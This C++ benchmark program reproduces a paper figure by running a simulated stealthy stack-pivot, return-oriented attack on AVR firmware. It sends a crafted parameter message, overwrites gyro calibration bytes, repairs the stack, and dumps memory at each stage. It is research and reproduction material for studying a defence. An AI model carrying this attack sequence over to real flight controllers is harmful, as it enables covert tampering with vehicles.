// Regenerates Fig. 6 (paper §IV-D): the stack's progression through the
// stealthy attack, captured live from the simulator at the same seven
// stages the paper shows.
#include <cstdio>

#include "attack/attacks.hpp"
#include "bench_util.hpp"
#include "firmware/profile.hpp"
#include "sim/board.hpp"
#include "sim/ground.hpp"
#include "support/hexdump.hpp"

int main() {
  using namespace mavr;
  const firmware::Firmware fw = firmware::generate(
      firmware::testapp(true), toolchain::ToolchainOptions::mavr());
  const attack::AttackPlan plan = attack::analyze(fw.image);
  const attack::VictimFrame& frame = plan.frame;

  bench::heading("Fig. 6 — Stack progression during the stealthy attack");
  std::printf("victim frame: buffer at 0x%04X, frame %u bytes, saved Y at "
              "0x%04X/0x%04X, return address at 0x%04X..0x%04X\n",
              frame.buffer_addr, frame.frame_bytes, frame.p - 1, frame.p,
              frame.p + 1, frame.p + 3);

  sim::Board board;
  board.flash_image(fw.image.bytes);
  board.run_cycles(300'000);
  sim::GroundStation gcs(board);

  const auto dump = [&](const char* stage, std::uint32_t addr,
                        std::uint32_t len) {
    std::printf("\n%s\n", stage);
    std::printf("%s",
                support::hexdump(board.cpu().data().snapshot(addr, len),
                                 addr)
                    .c_str());
  };

  const std::uint32_t handler_word = fw.image.find("h_param_set")->addr / 2;
  const std::uint32_t stk_word = plan.stk.entry_byte_addr / 2;
  const std::uint32_t store_word = plan.wm.store_entry_byte_addr / 2;
  const std::uint32_t tail = frame.p - 18;  // window around the frame top

  int stage = 0;
  int store_hits = 0;
  const auto on_step = [&](const avr::Cpu& cpu) {
    if (stage == 0 && cpu.pc() == handler_word) {
      dump("(i) clean stack before payload execution", tail, 24);
      stage = 1;
    } else if (stage == 1 && cpu.pc() == stk_word) {
      dump("(ii) dirty stack after payload injection (saved Y and return "
           "address overwritten)",
           tail, 24);
      stage = 2;
    } else if (stage == 2 && cpu.pc() == store_word) {
      dump("(iii) stack after execution of Gadget1 (SP pivoted into the "
           "buffer; chain consumed up to the first write round)",
           frame.buffer_addr, 24);
      ++store_hits;
      stage = 3;
    } else if (stage == 3 && cpu.pc() == store_word) {
      dump("(iv) stack after execution of the payload (attacker bytes "
           "written; repair rounds queued)",
           frame.buffer_addr + 24, 24);
      ++store_hits;
      stage = 4;
    } else if (stage == 4 && cpu.pc() == store_word) {
      dump("(v) stack before execution of Gadget2 for SP address repair",
           frame.p - 8, 16);
      ++store_hits;
      stage = 5;
    } else if (stage == 5 && cpu.pc() == stk_word) {
      dump("(vi) stack after execution of Gadget1 again to move to the "
           "original location",
           frame.p - 8, 12);
      stage = 6;
    }
  };
  // Runs on_step after every retired instruction, when pc() already names
  // the next instruction to execute.
  struct StageProbe : avr::Tracer {
    explicit StageProbe(decltype(on_step)& f) : step(f) {}
    void on_retire(const avr::Cpu& cpu, std::uint32_t, const avr::Instr&,
                   std::uint32_t) override {
      step(cpu);
    }
    decltype(on_step)& step;
  } probe(on_step);
  board.cpu().set_tracer(&probe);

  const attack::Write3 write{plan.gyro_cal_addr, {0x11, 0x22, 0x33}};
  gcs.send_raw_param_set(plan.builder().v2_payload({write}));
  board.run_cycles(5'000'000);
  board.cpu().set_tracer(nullptr);

  dump("(vii) repaired stack for continued execution", tail, 24);
  std::printf("\nvictim state: %s; gyro calibration now %02X %02X %02X "
              "(attacker values)\n",
              board.cpu().state() == avr::CpuState::Running
                  ? "running (attack was stealthy)"
                  : "crashed",
              board.cpu().data().raw(plan.gyro_cal_addr),
              board.cpu().data().raw(plan.gyro_cal_addr + 1),
              board.cpu().data().raw(plan.gyro_cal_addr + 2));

  std::printf("\nlegend (cf. paper colours): saved r28/r29 slots at "
              "0x%04X/0x%04X, gadget addresses as 3-byte big-endian words, "
              "repaired return address at 0x%04X.\n",
              frame.p - 1, frame.p, frame.p + 1);
  return 0;
}
